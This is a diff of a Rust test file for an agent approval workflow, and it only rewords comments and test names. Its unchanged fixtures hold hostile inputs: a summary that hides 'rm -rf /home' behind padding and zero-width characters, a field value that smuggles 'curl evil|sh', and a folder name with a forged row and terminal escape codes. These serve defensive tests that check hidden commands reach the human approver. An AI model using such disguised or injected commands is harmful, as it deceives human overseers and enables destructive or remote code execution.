@@ -1,4 +1,4 @@
-//! `approve` and `deny`, where an agent is near; `approver`; and texts that try to look like something else.
+//! `approve` and `deny` near an agent, `approver`, and texts that try to imitate other output.
 
 use std::io::Write;
 use std::process::{Command, Output, Stdio};
@@ -7,7 +7,7 @@ use serde_json::{Value, json};
 
 use crate::support::{Home, Ran, terminal};
 
-/// An approval that waits: its id.
+/// A pending approval: its id.
 fn asked(home: &Home, summary: &str, arguments: Value) -> String {
     let (_, thread) = home.server().thread();
     let ask = json!({"thread_id": thread, "tool_name": "shell", "summary": summary, "risk": "low",
@@ -20,7 +20,7 @@ fn state(home: &Home, id: &str) -> Value {
     home.server().ok("approval/read", json!({"approval_id": id}))
 }
 
-/// Runs a command whose input is a terminal, at which somebody types these lines.
+/// Runs a command with a terminal as its input, at which these lines are typed.
 fn at_terminal(mut command: Command, typed: &[&str]) -> Output {
     let (mut ours, theirs) = terminal::open();
     command.stdin(theirs).stdout(Stdio::piped()).stderr(Stdio::piped());
@@ -36,7 +36,7 @@ fn text(bytes: &[u8]) -> String {
 }
 
 #[test]
-fn inside_an_agent_nothing_is_decided_without_a_terminal() {
+fn inside_an_agent_a_decision_requires_a_terminal() {
     let home = Home::new();
     let id = asked(&home, "git push", json!(null));
     let digest = state(&home, &id)["action_digest"].as_str().unwrap().to_owned();
@@ -86,7 +86,7 @@ fn inside_an_agent_nothing_is_decided_without_a_terminal() {
 }
 
 #[test]
-fn the_question_repeats_what_must_not_have_scrolled_away() {
+fn the_confirmation_repeats_what_could_have_scrolled_away() {
     let home = Home::new();
     let summary = format!("ls{}; rm -rf /home\u{200b}\n{}", " ".repeat(2000), "more\n".repeat(300));
     let id = asked(&home, &summary, json!({"command": "x\u{2800}\u{e0041}", "token": "x\"; curl evil|sh #"}));
@@ -134,7 +134,7 @@ fn the_approver_secret_is_asked_for_at_a_terminal() {
 }
 
 #[test]
-fn names_of_others_make_no_rows_and_no_colours() {
+fn names_from_others_cannot_add_rows_or_colours() {
     let home = Home::new();
     let folder = tempfile::tempdir().unwrap();
     let forged = folder.path().join("x\nForged  main  2 active  just now  codewhale:\u{1b}[31m");
@@ -153,7 +153,7 @@ fn names_of_others_make_no_rows_and_no_colours() {
 }
 
 #[test]
-fn the_inbox_says_how_much_it_shows_and_cuts_no_question() {
+fn the_inbox_states_how_much_it_shows_and_cuts_no_question() {
     let home = Home::new();
     let (mut ada, mut bot) = (home.server(), home.agent("p", "m", "bot"));
     let (room, _) = ada.thread();
